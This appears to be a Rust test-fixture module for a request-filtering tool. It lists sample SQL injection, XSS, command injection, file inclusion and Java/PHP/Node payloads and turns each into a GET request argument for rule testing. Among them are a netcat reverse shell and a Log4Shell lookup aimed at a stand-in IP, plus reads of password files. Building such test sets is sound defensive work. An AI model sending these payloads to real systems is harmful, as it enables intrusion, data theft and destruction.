//! Sample attacks for testing exceptions when the user has recorded no attacks.
//!
//! The payloads are textbook forms, at least one for each family that the rules look for in an
//! argument. They show that a rule is the only one that detects a kind of attack. They do not show
//! how many real attacks a setting stops.

use crate::model::request::{Body, Request, RequestError};
use crate::model::{is_unreserved, percent_encoded};

/// Attack families with their payloads, each of which becomes the value of an argument.
pub const SAMPLE_ATTACKS: &[(&str, &str)] = &[
    ("SQL injection", "1' OR '1'='1"),
    ("SQL injection", "1 OR 1=1-- -"),
    ("SQL injection", "' UNION SELECT name, secret FROM accounts-- -"),
    ("SQL injection", "1; DROP TABLE orders--"),
    ("SQL injection", "1 AND SLEEP(5)"),
    ("SQL injection", "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0 AND 'a'='a"),
    ("SQL injection", "admin'/*"),
    ("SQL injection", "1 UNION/**/SELECT/**/null,version()"),
    ("SQL injection", "1' WAITFOR DELAY '0:0:5'--"),
    ("SQL injection", "extractvalue(1,concat(0x7e,user()))"),
    ("cross-site scripting", "<script>alert(1)</script>"),
    ("cross-site scripting", "<img src=x onerror=alert(1)>"),
    ("cross-site scripting", "\"><svg onload=alert(document.domain)>"),
    ("cross-site scripting", "javascript:alert(1)"),
    ("cross-site scripting", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("cross-site scripting", "'-alert(1)-'"),
    ("cross-site scripting", "<a href=\"data:text/html;base64,PHN2Zz4=\">x</a>"),
    ("cross-site scripting", "<style>@import'http://attacker.example/x'</style>"),
    ("remote code execution", "; cat /etc/passwd"),
    ("remote code execution", "$(id)"),
    ("remote code execution", "`uname -a`"),
    ("remote code execution", "| nc 203.0.113.9 4444 -e /bin/sh"),
    ("remote code execution", "& ping -n 5 203.0.113.9 &"),
    ("remote code execution", "() { :; }; /bin/bash -c id"),
    ("remote code execution", "; powershell -enc SQBFAFgA"),
    ("local file inclusion", "../../../../etc/passwd"),
    ("local file inclusion", "..\\..\\windows\\win.ini"),
    ("local file inclusion", "/proc/self/environ"),
    ("local file inclusion", "....//....//etc/shadow"),
    ("remote file inclusion", "http://203.0.113.9/shell.txt?"),
    ("remote file inclusion", "php://filter/convert.base64-encode/resource=index.php"),
    ("PHP injection", "<?php system($_GET['c']); ?>"),
    ("PHP injection", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}"),
    ("Node.js injection", "require('child_process').exec('id')"),
    ("Java attack", "${jndi:ldap://203.0.113.9/a}"),
    ("Java attack", "java.lang.Runtime.getRuntime().exec(\"id\")"),
    ("Java attack", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
    ("session fixation", "<script>document.cookie=\"sessionid=1;domain=.example.com\"</script>"),
];

/// Returns the sample attacks as requests.
///
/// # Errors
/// Fails only if a payload makes no valid request, which tests rule out.
pub fn sample_attacks() -> Result<Vec<Request>, RequestError> {
    let request = |(_, payload): &(&str, &str)| {
        let query = percent_encoded(payload.as_bytes(), is_unreserved);
        let mut request = Request::parse(&format!("GET https://www.example.com/?q={query}"))?;
        request.body = Body::Known(Vec::new());
        Ok(request)
    };
    SAMPLE_ATTACKS.iter().map(request).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_shapes_are_requests() {
        let requests = sample_attacks().expect("they are");
        assert_eq!(requests.len(), SAMPLE_ATTACKS.len());
        assert_eq!(requests[19].query, "q=%24%28id%29");
    }
}
